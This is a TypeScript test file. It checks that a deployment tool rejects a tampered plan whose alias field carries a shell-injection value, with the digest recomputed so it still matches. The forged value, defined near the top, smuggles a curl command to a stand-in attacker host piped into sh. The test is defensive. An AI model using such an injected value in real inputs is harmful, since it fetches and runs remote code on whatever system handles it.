import { createHash } from 'node:crypto'
import canonicalize from 'canonicalize'
import { expect, test, vi } from 'vitest'
import { Shop } from '../shop.ts'

vi.setConfig({ testTimeout: 60_000 })

/** A name that a shell takes for a command, as a plan that was edited and sealed again may have it. */
const forged = "www.example.com';curl$IFS\\evil.example|sh;'"

/** The plan with another list of names, and with the digest that fits it: `check` is no signature. */
function withName(plan: string): string {
  const { check: _, ...body } = JSON.parse(plan)
  const other = { ...body, aliases: [forged], source: { ...body.source, aliases: [forged] } }
  const check = createHash('sha256')
    .update(String(canonicalize(other)))
    .digest('hex')
  return String(canonicalize({ ...other, check }))
}

test.each(['recover', 'move', 'verify'])(
  'alias: all takes no name from a plan that a shell would take for a command (%s)',
  async (command) => {
    const shop = await Shop.of({ cross: {} })
    const { source } = shop.stage.scene
    const inputs = {
      alias: 'all',
      'source-distribution': source.id,
      scenario: 'disable-source',
      'accept-downtime': shop.names.join(','),
    }
    const planned = await shop.run({ inputs: { ...inputs, command: 'plan' } })
    const plan = withName(planned.outputs['plan'] ?? '')
    const run = await shop.run({ inputs: { ...inputs, command, plan }, judged: true })
    expect(run.summary).not.toContain(`alias_name='${forged}'`)
    expect(run.log).not.toContain(`alias_name='${forged}'`)
    expect(run.outputs['reason'], run.log).toBe('plan-invalid')
  },
)
